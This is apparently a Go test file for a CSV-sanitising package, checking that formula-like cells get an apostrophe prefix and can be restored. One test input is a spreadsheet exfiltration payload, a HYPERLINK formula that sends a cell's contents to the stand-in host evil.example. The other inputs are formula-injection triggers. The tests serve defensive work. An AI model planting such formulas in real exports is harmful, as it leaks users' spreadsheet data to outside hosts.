package csvsafe

import "testing"

func TestCellNeutralisesAndOriginalUndoes(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1+1", "'+1+1"}, {"-2+3", "'-2+3"}, {"@SUM(A1)", "'@SUM(A1)"},
		{"\tcmd", "'\tcmd"}, {"\rcmd", "'\rcmd"}, {"'quoted", "''quoted"},
		{"acme/api#7", "acme/api#7"}, {"", ""}, {" =x", " =x"}, {"a=b", "a=b"},
	} {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := Original(Cell(c.in)); back != c.in {
			t.Errorf("Original(Cell(%q)) = %q", c.in, back)
		}
	}
}

func FuzzCellRoundTrip(f *testing.F) {
	for _, s := range []string{"=1+1", "'", "''x", "-", "plain"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := Cell(s)
		if Original(c) != s {
			t.Fatalf("Original(Cell(%q)) = %q", s, Original(c))
		}
		if Risky(s) && c[0] != '\'' {
			t.Fatalf("Cell(%q) = %q still starts with a formula character", s, c)
		}
		if !Risky(s) && c != s {
			t.Fatalf("Cell(%q) = %q changed a harmless value", s, c)
		}
	})
}
